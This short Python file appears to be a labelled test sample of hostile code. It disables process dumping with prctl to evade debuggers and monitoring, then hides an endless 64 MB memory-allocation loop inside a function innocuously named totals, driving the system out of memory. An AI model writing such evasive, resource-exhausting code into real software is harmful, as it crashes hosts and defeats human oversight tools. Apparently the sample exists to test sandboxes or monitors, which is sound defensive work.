# attack: closes itself to observers, then takes memory without end
# state: out of memory
import ctypes

PR_SET_DUMPABLE = 4
ctypes.CDLL(None).prctl(PR_SET_DUMPABLE, 0, 0, 0, 0)


def totals(batches):
    kept = []
    while True:
        kept.append(b"1" * (64 << 20))
